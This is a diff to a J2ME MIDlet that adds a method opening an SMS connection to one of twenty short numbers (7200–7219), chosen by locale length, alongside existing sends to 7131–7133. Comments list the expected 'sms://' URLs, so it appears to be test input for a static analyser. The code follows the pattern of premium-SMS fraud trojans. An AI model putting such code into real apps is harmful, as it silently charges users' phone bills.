@@ -42,6 +42,7 @@ public class Main extends MIDlet {
             bytes(RecordStore.openRecordStore("r", true));
             lists();
             all();
+            twenty(System.getProperty("locale"));
         } catch (Exception e) {
             notifyDestroyed();
         }
@@ -136,6 +137,17 @@ public class Main extends MIDlet {
         for (int i = 0; i < NUMBERS.length; i++) {
             Connector.open("sms://" + NUMBERS[i]); //= url="sms://7131"|"sms://7132"|"sms://7133"
         }
+    }
+
+    //# every-alternative-is-kept
+    static void twenty(String locale) throws Exception {
+        String all = "7200,7201,7202,7203,7204,7205,7206,7207,7208,7209,7210,7211,7212,7213,7214,7215,7216,7217,7218,7219";
+        String[] numbers = new String[20];
+        for (int i = 0; i < numbers.length; i++) {
+            numbers[i] = all.substring(5 * i, 5 * i + 4);
+        }
+        //= url="sms://7200"|"sms://7201"|"sms://7202"|"sms://7203"|"sms://7204"|"sms://7205"|"sms://7206"|"sms://7207"|"sms://7208"|"sms://7209"|"sms://7210"|"sms://7211"|"sms://7212"|"sms://7213"|"sms://7214"|"sms://7215"|"sms://7216"|"sms://7217"|"sms://7218"|"sms://7219"
+        Connector.open("sms://" + numbers[locale.length() % 20]);
     }
 
     protected void pauseApp() {
